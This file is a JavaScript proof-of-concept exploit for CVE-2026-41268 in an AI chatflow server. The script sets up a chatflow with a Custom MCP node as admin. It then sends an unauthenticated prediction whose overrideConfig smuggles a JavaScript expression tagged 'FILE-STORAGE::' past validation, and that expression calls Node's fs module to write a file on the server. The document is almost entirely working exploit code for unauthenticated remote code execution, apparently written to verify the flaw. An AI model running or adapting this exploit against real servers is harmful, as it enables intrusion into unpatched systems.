// CVE-2026-41268 (<3.1.0): UNAUTHENTICATED. A chatflow that has a Custom MCP node and API override on: overrideConfig.mcpServerConfig containing 'FILE-STORAGE::' skips the per-parameter check.
// The script (as admin, set-up) creates such a flow, then attacks it with an anonymous prediction. --mock = OpenAI-compatible URL.
import { req, login, mark, xmark, rm, outcome, payload, opt } from './lib.mjs'
const m = mark('a12'); rm(m); rm(xmark('a12.errno')); const MOCK = opt('mock', 'http://127.0.0.1:18080/v1')
await login(); const d = async n => (await req('GET', '/api/v1/nodes/' + n)).body
const cr = (await req('POST', '/api/v1/credentials', { name: 'mock2', credentialName: 'openAIApi', plainDataObj: { openAIApiKey: 'sk-x' } })).body.id
const N = async (n, id, inputs, extra = {}) => { const x = await d(n); return { id, type: 'customNode', position: { x: 0, y: 0 }, data: { ...x, id, inputs, inputAnchors: [], inputParams: [], outputs: {}, outputAnchors: [{ id: id + '-output', name: n, label: n, type: 'x' }], ...extra } } }
const llm = await N('chatOpenAI', 'chatOpenAI_0', { modelName: 'mock-gpt', basepath: MOCK, streaming: false, FLOWISE_CREDENTIAL_ID: cr }, { credential: cr }), mem = await N('bufferMemory', 'bufferMemory_0', {}), mcp = await N('customMCP', 'customMCP_0', { mcpServerConfig: '{"url":"http://127.0.0.1:9/none"}', mcpActions: '["x"]' }), ag = await N('toolAgent', 'toolAgent_0', { tools: ['{{customMCP_0.data.instance}}'], memory: '{{bufferMemory_0.data.instance}}', model: '{{chatOpenAI_0.data.instance}}', systemMessage: 's' })
const E = (a, b) => ({ source: a, target: b, sourceHandle: a, targetHandle: b, type: 'buttonedge', id: a + '-' + b })
const cf = await req('POST', '/api/v1/chatflows', { name: 'a12', type: 'CHATFLOW', deployed: false, isPublic: false, apikeyid: '', chatbotConfig: '{}', category: '', apiConfig: JSON.stringify({ overrideConfig: { status: true, config: {} } }), flowData: JSON.stringify({ nodes: [llm, mem, mcp, ag], edges: [E('chatOpenAI_0', 'toolAgent_0'), E('bufferMemory_0', 'toolAgent_0'), E('customMCP_0', 'toolAgent_0')], viewport: { x: 0, y: 0, zoom: 1 } }) })
const write = `process.mainModule.require('fs').writeFileSync('${m}','unauth override')`
const ev = `({x:(function(){${payload(write, 'a12')};return 1})()})/*FILE-STORAGE::*/`
const r = await req('POST', '/api/v1/prediction/' + cf.body.id, { question: 'hi', overrideConfig: { mcpServerConfig: ev } }, { anon: true, timeout: 60000 })
await outcome('a12', m, r); await req('DELETE', '/api/v1/chatflows/' + cf.body.id)
